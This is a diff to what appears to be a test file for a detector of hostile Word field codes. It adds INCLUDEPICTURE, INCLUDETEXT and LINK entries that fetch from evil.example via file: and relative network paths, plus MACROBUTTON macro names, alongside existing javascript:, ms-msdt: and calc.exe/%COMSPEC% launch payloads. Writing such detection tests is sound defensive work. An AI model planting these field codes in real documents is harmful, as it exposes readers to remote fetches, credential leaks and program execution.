@@ -54,6 +54,12 @@ const instructions: [string, Hostile['because']][] = [
   [String.raw`LINK Word.Document.8 "file:/\\evil.example/s/x.docx" "" \a \p`, 'fetched from elsewhere'],
   [String.raw`IMPORT "h\ttp://evil.example/x"`, 'fetched from elsewhere'],
   [String.raw`RD file:/\\evil.example/s`, 'fetched from elsewhere'],
+  // Linux mounts whatever server is named there, and a document may lie one step from the root.
+  ['INCLUDEPICTURE "file:///net/evil.example/s/x.png" \\d', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE "../net/evil.example/s/x.png" \\d', 'fetched from elsewhere'],
+  [String.raw`INCLUDEPICTURE "..\\..\\afs\\evil.example\\x.png" \d`, 'fetched from elsewhere'],
+  ['INCLUDETEXT "file:../dev/zero"', 'fetched from elsewhere'],
+  ['LINK Excel.Sheet.8 file:///evil.example/x.xls R1C1 \\a', 'fetched from elsewhere'],
   [String.raw`HYPERLINK "file:/\\evil.example/s"`, 'leads to a program'],
   [String.raw`HYPERLINK "java\script:alert(1)"`, 'leads to a program'],
   [String.raw`HYPERLINK "ms\-msdt:/id"`, 'leads to a program'],
@@ -71,6 +77,11 @@ const instructions: [string, Hostile['because']][] = [
   ...['FileSendMail', 'filesend', '"WebOpenHyperlink"', 'AutoExec', 'ToolsMacro', 'InsertFile', 'FilePrintDefault'].map(
     (command): [string, Hostile['because']] => [`MACROBUTTON ${command} CLICK`, 'could run a macro'],
   ),
+  ...[
+    ...['MicrosoftExcel', 'MicrosoftSystemInfo', 'ControlRun', 'ExitWindows', 'EditObject', 'EditLinks', 'ViewVBCode'],
+    ...['OpenSubdocument', 'UpdateFields', 'OpenHyperlink', 'followhyperlink', 'FaxService', 'EmailAttach', 'DocClose'],
+    ...['WW2_FilePrint', 'HelpAbout', 'AppMinimize', 'MacroRecord', 'RecordMacro', 'CustomizeMenus', 'ConnectNetwork'],
+  ].map((command): [string, Hostile['because']] => [`MACROBUTTON ${command} CLICK`, 'could run a macro']),
   [String.raw`LINK Excel.Sheet.8 "C:\\Windows\\System32\\calc.exe" "" \a`, 'starts a program'],
   [String.raw`INCLUDETEXT "C:\\a\\x.hta"`, 'starts a program'],
   [String.raw`LINK Package "%COMSPEC%" "" \a`, 'starts a program'],
